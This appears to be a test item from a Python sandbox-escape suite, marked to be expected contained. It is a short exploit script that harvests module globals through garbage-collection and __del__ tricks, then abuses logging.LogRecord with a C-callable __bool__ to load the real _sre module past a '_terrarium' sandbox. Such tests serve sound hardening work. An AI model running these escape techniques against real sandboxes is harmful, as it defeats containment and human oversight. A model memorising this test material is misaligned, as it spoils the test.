# id: gc-globals-to-sre
# class: escape
# expect: contained
# technique: from the namespace of typing (gc_globals_typing) to _terrarium.loaded, which logging.LogRecord calls for the guest (a C callable as __bool__), to the real _sre
# source: own
# verified: no
# policy: plugin
import functools, logging
L = []
it = map(L.append, iter(globals, None))
class C: __del__ = staticmethod(functools.partial(next, it))
def make():
    c = C(); c.me = c
make()
N = 600
keep = [[] for _ in range(N)]
import typing
d = next((x for x in L if x.get('__name__') == 'typing'), None)
print(len(L), [x.get('__name__') for x in L])
T = d['_terrarium']
got = []
class Z(dict): __bool__ = staticmethod(functools.partial(next, map(got.append, map(T.loaded, ['_sre']))))
try: logging.LogRecord('n', 10, 'p', 1, 'm', (Z(),), None)
except TypeError as e: print(e)
print('ESCAPED:gc-globals-to-sre the real', got)
